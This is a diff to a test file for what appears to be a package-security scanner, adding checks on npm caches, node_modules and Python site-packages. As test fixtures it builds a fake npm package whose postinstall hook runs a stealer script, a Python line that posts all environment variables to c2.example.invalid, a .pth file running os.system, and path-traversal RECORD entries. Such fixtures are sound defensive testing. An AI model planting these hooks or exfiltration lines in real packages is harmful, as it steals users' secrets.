@@ -2,11 +2,13 @@
 attacker would, each alteration found by its rule; allow-list, baseline, formats, exit statuses, hostile files."""
 import base64
 import hashlib
+import io
 import json
 import os
 import shutil
 import subprocess
 import sys
+import tarfile
 import tempfile
 
 RATTER = os.environ["RATTER"]
@@ -311,6 +313,86 @@ try:
     check("--scan examines what is in node_modules and tells what is not there",
           any(r["artifact"]["path"].endswith("node_modules/right-helper") for r in reports) and
           "not on this machine" in json.dumps(reports), (status, said, [r["artifact"]["path"] for r in reports]))
+    check("--scan says how to bring what is not there", "npm ci --ignore-scripts" in json.dumps(reports), reports[-1:])
+
+    def tgz(files):
+        buffer = io.BytesIO()
+        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+            for path, body in files.items():
+                info = tarfile.TarInfo("package/" + path)
+                info.size = len(body)
+                archive.addfile(info, io.BytesIO(body.encode()))
+        return buffer.getvalue()
+
+    def cached(archive, stored=None):
+        """A home whose npm cache holds `archive` (or other bytes under its name), and its integrity."""
+        digest = hashlib.sha512(archive).digest()
+        name = digest.hex()
+        place = f".npm/_cacache/content-v2/sha512/{name[:2]}/{name[2:4]}/{name[4:]}"
+        return make("x", "", ((place, archive if stored is None else stored),)), "sha512-" + base64.b64encode(digest).decode()
+
+    def audit_home(folder, home, *flags):
+        run = subprocess.run([RATTER, "audit", "--intel", "none", "--format", "jsonl", "--scan", *flags, "."],
+                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=folder, env=dict(os.environ, HOME=home))
+        return run.returncode, [json.loads(line) for line in run.stdout.decode("utf-8", "replace").splitlines()]
+
+    def locked_as(integrity, name="right-helper", **more):
+        return npm(entry(name, version="2.0.0", integrity=integrity, **more,
+                         resolved=f"{REGISTRY}/{name}/-/{name}-2.0.0.tgz"))
+
+    with open(os.path.join(ROOT, "examples", "npm-stealer", "setup.js"), encoding="utf-8") as f:
+        bad = f.read()
+    manifest = '{"name":"right-helper","version":"2.0.0","scripts":{"postinstall":"node setup.js"}}'
+    archive = tgz({"package.json": manifest, "setup.js": bad})
+    home, integrity = cached(archive)
+    status, reports = audit_home(make("package-lock.json", locked_as(integrity, hasInstallScript=True)), home)
+    hit = [r for r in reports if r["artifact"]["path"].startswith("pkg:npm/right-helper")]
+    check("--scan reads npm's cache by integrity: malicious content is found, exit 1", status == 1 and len(hit) == 1 and
+          hit[0]["verdict"] == "malicious" and hit[0]["artifact"]["sha256"] == hashlib.sha256(archive).hexdigest(), (status, hit))
+    home, integrity = cached(archive, stored=archive[:-1] + b"x")
+    status, reports = audit_home(make("package-lock.json", locked_as(integrity)), home)
+    check("other bytes in the cache than the lockfile promises are told, not examined", len(reports) == 1 and
+          "holds other bytes for right-helper" in json.dumps(reports), (status, reports))
+    home, integrity = cached(tgz({"package.json": '{"name":"evil","version":"2.0.0"}'}))
+    status, reports = audit_home(make("package-lock.json", locked_as(integrity)), home)
+    check("content that calls itself another package: audit/content-of-another", "audit/content-of-another" in rules(reports),
+          rules(reports))
+    status, reports, said = audit(content, "--scan")
+    check("a hook that the lockfile does not tell: audit/hidden-hook", "audit/hidden-hook" in rules(reports), rules(reports))
+
+    nested = {"left/package.json": '{"name":"left","version":"1.0.0"}', "left/index.js": "1\n",
+              "left/node_modules/inner/package.json": '{"name":"inner","version":"1.0.0"}',
+              "@s/right/package.json": manifest.replace("right-helper", "@s/right"), "@s/right/setup.js": bad}
+    status, reports, said = audit(make("x", "", [("node_modules/" + k, v) for k, v in nested.items()]), "--scan")
+    paths = sorted(r["artifact"]["path"] for r in reports)
+    check("--scan of a node_modules without a lockfile: each package once", status == 1 and paths == sorted(
+        "./node_modules" + p for p in ("", "/left", "/left/node_modules/inner", "/@s/right")), (status, paths, said))
+
+    def dist(name, record, files):
+        below = "lib/python3.11/site-packages/"
+        return [(below + p, b) for p, b in files.items()] + [
+            (below + f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"),
+            (below + f"{name}-1.0.dist-info/RECORD", "\n".join(record + [f"{name}-1.0.dist-info/METADATA,,"]) + "\n")]
+
+    steal = "import os, urllib.request\nurllib.request.urlopen('https://c2.example.invalid/x', data=str(dict(os.environ)).encode())\n"
+    site = dist("Good_Part", ["good/__init__.py,sha256=x,1", '"good/odd, name.py",,', "../../../bin/good,,"],
+                {"good/__init__.py": "x = 1\n", "good/odd, name.py": "y = 2\n"}) + dist(
+        "bad.part", ["bad/__init__.py,,", "../../../../etc/passwd,,"], {"bad/__init__.py": steal})
+    extra = [("lib/python3.11/site-packages/left-over.pth", "import os; os.system('id')\n")]
+    status, reports, said = audit(make("x", "", [("venv/" + p, b) for p, b in site + extra]), "--scan")
+    by = {os.path.basename(r["artifact"]["path"]): r for r in reports if r["artifact"]["path"].count("/") > 4}
+    check("--scan of site-packages: a distribution is what its RECORD names", {"Good_Part-1.0.dist-info",
+          "bad.part-1.0.dist-info"} <= set(by) and by["Good_Part-1.0.dist-info"]["verdict"] == "clean" and
+          by["bad.part-1.0.dist-info"]["verdict"] in ("malicious", "suspicious"), (status, sorted(by), said))
+    check("what lies elsewhere is told", "outside of site-packages" in json.dumps(by["bad.part-1.0.dist-info"]["unseen"]), by)
+    check("what no RECORD names is examined, too", any(r["artifact"]["path"].endswith("site-packages") and "left-over.pth" in
+          json.dumps(r["findings"]) for r in reports), [r["artifact"] for r in reports])
+    project = make("requirements.txt", "good-part==1.0\nbad-part==1.0\nabsent==1.0\n", [(".venv/" + p, b) for p, b in site])
+    status, reports, said = audit(project, "--scan")
+    check("a project's own .venv is looked into", sorted(os.path.basename(r["artifact"]["path"]) for r in reports) == [
+        "Good_Part-1.0.dist-info", "bad.part-1.0.dist-info", "requirements.txt"], (status, reports))
+    check("and what is not there is told, with the way to it", "(absent)" in json.dumps(reports) and "pip install" in
+          json.dumps(reports), reports)
 finally:
     for folder in made:
         shutil.rmtree(folder, ignore_errors=True)
